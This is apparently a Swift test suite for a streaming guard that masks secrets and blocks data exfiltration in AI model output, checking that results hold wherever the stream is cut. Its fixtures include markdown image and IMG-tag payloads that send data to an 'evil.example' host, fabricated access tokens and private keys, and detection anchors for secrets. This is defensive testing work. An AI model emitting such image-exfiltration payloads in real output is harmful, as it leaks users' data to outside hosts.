/// Streams: wherever a text is cut, what comes out is what the whole text gives.

import Guards
import Testing

/// What a stream gave altogether.
struct StreamResult: Equatable {
  var released: [UInt8] = []
  var findings: [Finding] = []
  var blocked = false
  var mostHeld = 0

  static func == (left: StreamResult, right: StreamResult) -> Bool {
    left.released == right.released && left.blocked == right.blocked
      && Set(left.findings) == Set(right.findings)
  }
}

func run(_ guardian: TextGuard, _ pieces: [[UInt8]]) -> StreamResult {
  var stream = StreamGuard(guard: guardian)
  var result = StreamResult()
  for piece in pieces {
    let chunk = stream.push(piece)
    result.released += chunk.released
    result.findings += chunk.findings
    result.mostHeld = max(result.mostHeld, stream.heldBytes)
  }
  let last = stream.finish()
  result.released += last.released
  result.findings += last.findings
  result.blocked = last.blocked
  return result
}

@Suite("3.5b streams are guarded like whole texts")
struct StreamGuardTests {
  static let guardian = TextGuard(policy: GuardPolicy(canaries: [Samples.canary]))

  static let sentences: [String] = {
    var random = SeededRandom(7)
    let secrets = Samples.secrets(seed: 11).filter { $0.text.utf8.count < 700 }
    let data = Samples.draw(Alphabet.alphanumeric, 48, &random)
    return secrets.map { "Grüße 🎉 " + $0.text + " – schön." } + [
      "see ![x](https://evil.example/p?d=\(data)) now",
      "see [here](https://evil.example/p?d=\(data)\(data)) now",
      "<IMG width=1 src='https://evil.example/?q=\(data)'> now",
      "nothing at all, only é and 🎉 and k7 and ![pictures](of.png)",
    ]
  }()

  @Test("two pieces, wherever they are cut, give what the whole text gives", arguments: sentences)
  func everyCut(text: String) {
    let bytes = Array(text.utf8)
    let whole = run(Self.guardian, [bytes])
    let judged = Self.guardian.judge(text, origin: .model)
    #expect(String(decoding: whole.released, as: UTF8.self) == judged.text)
    #expect(Set(whole.findings) == Set(judged.findings))
    for cut in Self.cuts(bytes.count) {
      let result = run(Self.guardian, [Array(bytes[..<cut]), Array(bytes[cut...])])
      #expect(result == whole, "cut at \(cut)")
    }
  }

  /// Every cut in the first 90 bytes and the last 30, where findings begin, become certain and end;
  /// every fifth between, where a long run only goes on.
  static func cuts(_ count: Int) -> [Int] {
    (0...count).filter { $0 < 90 || $0 > count - 30 || $0 % 5 == 0 }
  }

  @Test("one byte at a time gives what the whole text gives", arguments: sentences)
  func singleBytes(text: String) {
    let bytes = Array(text.utf8)
    #expect(run(Self.guardian, bytes.map { [$0] }) == run(Self.guardian, [bytes]))
  }

  @Test("a block releases the same bytes wherever the stream is cut")
  func blocking() {
    var policy = GuardPolicy(canaries: [Samples.canary])
    policy.secrets = .block
    let blocking = TextGuard(policy: policy)
    var random = SeededRandom(3)
    let key = "AKIA" + Samples.draw(Alphabet.base32, 16, &random)
    let token = "gl" + "pat-" + Samples.draw(Alphabet.token, 20, &random)
    for text in [
      "one ![a](https://e.example/?q=hello) two \(key) three \(token) four",
      "the marker is \(Samples.canary), and \(key)",
      "eyJ ![open and \(Samples.canary.lowercased())",
    ] {
      let bytes = Array(text.utf8)
      let whole = run(blocking, [bytes])
      #expect(whole.blocked)
      #expect(whole.findings.isEmpty == false)
      for cut in 0...bytes.count {
        let result = run(blocking, [Array(bytes[..<cut]), Array(bytes[cut...])])
        #expect(result == whole, "cut at \(cut)")
      }
      #expect(run(blocking, bytes.map { [$0] }) == whole)
    }
  }

  @Test("random pieces of random mixtures give what the whole text gives", arguments: 1...12)
  func mixtures(seed: Int) {
    var random = SeededRandom(UInt64(seed))
    let samples = Samples.secrets(seed: UInt64(seed)).map(\.text) + BenignCorpus.texts
    var text = ""
    for _ in 0..<8 {
      text += samples.randomElement(using: &random) ?? ""
      text += [" ", "", "\n", "é", "-"].randomElement(using: &random) ?? ""
    }
    let bytes = Array(text.utf8)
    var pieces: [[UInt8]] = []
    var start = 0
    while start < bytes.count {
      let end = min(bytes.count, start + Int.random(in: 1...40, using: &random))
      pieces.append(Array(bytes[start..<end]))
      start = end
    }
    let whole = run(Self.guardian, [bytes])
    #expect(run(Self.guardian, pieces) == whole)
    let judged = Self.guardian.judge(text, origin: .model)
    #expect(String(decoding: whole.released, as: UTF8.self) == judged.text)
  }

  @Test("a private key longer than the bound is suppressed to its end")
  func longPrivateKey() {
    var random = SeededRandom(9)
    let key = Samples.privateKey("RSA ", lines: 120, &random)
    let bytes = Array(("before " + key + " after").utf8)
    let result = run(Self.guardian, bytes.map { [$0] })
    #expect(
      String(decoding: result.released, as: UTF8.self)
        == "before [masked: secret.private-key] after")
    #expect(result.mostHeld <= GuardLimits.holdBackBytes)
    #expect(result.findings.map(\.range) == [7..<(7 + key.utf8.count)])
  }

  @Test("what is held back of ordinary prose is a word at most")
  func holdBack() {
    let bytes = Array(BenignCorpus.prose.joined(separator: " ").utf8)
    var stream = StreamGuard(policy: .secureDefault)
    var held: [Int] = []
    for byte in bytes {
      _ = stream.push([byte])
      held.append(stream.heldBytes)
    }
    #expect((held.max() ?? 0) <= 64)
    #expect(held.sorted()[held.count / 2] <= 2)
  }

  @Test("a text of anchors is held back no longer than the bound")
  func bound() {
    for anchor in [
      "eyJ", "![", "://a:", "sk-", "password=", "](http://a?b=", "-----BEGIN ", "K7QX",
    ] {
      let bytes = Array(String(repeating: anchor, count: 6_000 / anchor.utf8.count).utf8)
      var stream = StreamGuard(guard: Self.guardian)
      for start in stride(from: 0, to: bytes.count, by: 100) {
        _ = stream.push(Array(bytes[start..<min(bytes.count, start + 100)]))
        #expect(stream.heldBytes <= GuardLimits.holdBackBytes)
      }
    }
  }

  @Test("after a block nothing is released any more")
  func afterBlock() {
    var stream = StreamGuard(policy: GuardPolicy(canaries: [Samples.canary]))
    #expect(stream.push(Array("ok \(Samples.canary)".utf8)).blocked)
    #expect(stream.push(Array("more".utf8)).released.isEmpty)
    let last = stream.finish()
    #expect(last.released.isEmpty && last.blocked)
  }

  @Test("after the end nothing is released any more")
  func afterFinish() {
    var stream = StreamGuard(policy: .secureDefault)
    _ = stream.push(Array("all".utf8))
    _ = stream.finish()
    #expect(stream.push(Array("more".utf8)).released.isEmpty)
  }
}
